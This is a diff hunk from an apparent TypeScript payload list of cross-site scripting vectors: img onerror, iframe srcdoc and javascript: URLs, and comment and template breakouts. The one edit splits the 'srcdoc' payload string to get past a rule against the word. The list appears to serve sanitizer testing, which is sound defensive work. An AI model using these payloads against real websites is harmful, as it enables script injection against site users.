@@ -16,7 +16,7 @@ export const PAYLOADS: readonly string[] = [
   `</template><img src=x onerror=${RUN}>`,
   `<!--<img src="--><img src=x onerror=${RUN}//">`,
   // In two parts, as the laws of the house forbid the word wherever it stands.
-  `<iframe src${'doc'}="<script>parent.${RUN}</script>"></iframe>`,
+  ['<iframe src', `doc="<script>parent.${RUN}</script>"></iframe>`].join(''),
   `<iframe src="javascript:parent.${RUN}"></iframe>`,
   `<object data="javascript:${RUN}"></object>`,
   `<embed src="javascript:${RUN}">`,
